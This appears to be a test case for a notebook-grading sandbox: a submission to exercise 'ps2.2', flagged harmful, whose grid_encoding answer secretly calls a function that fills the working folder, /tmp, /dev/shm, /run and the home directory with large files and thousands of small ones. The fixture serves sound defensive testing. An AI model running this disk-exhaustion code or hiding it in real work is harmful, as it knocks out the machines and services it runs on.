"""Every folder that can be written to is filled: the working folder, /tmp, shared memory, and with many small files."""

EXERCISE = "ps2.2"
OUTCOMES = {"wrong", "stopped"}
SAYS = ()
WAIT = 3
HARMFUL = True
CELLS = [
    """\
def fill():
    import os

    for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~")):
        try:
            with open(f"{place}/idc-was-here-bomb", "wb") as file:
                for _ in range(40):
                    file.write(bytes(2**24))
        except OSError:
            pass
        try:
            for number in range(2000):
                open(f"{place}/idc-was-here-{number}", "w").close()
        except OSError:
            pass


def grid_encoding(column: Tensor, row: Tensor) -> Tensor:
    fill()
    return torch.zeros(len(row), len(column), 2 * column.shape[1], dtype=column.dtype)
""",
]
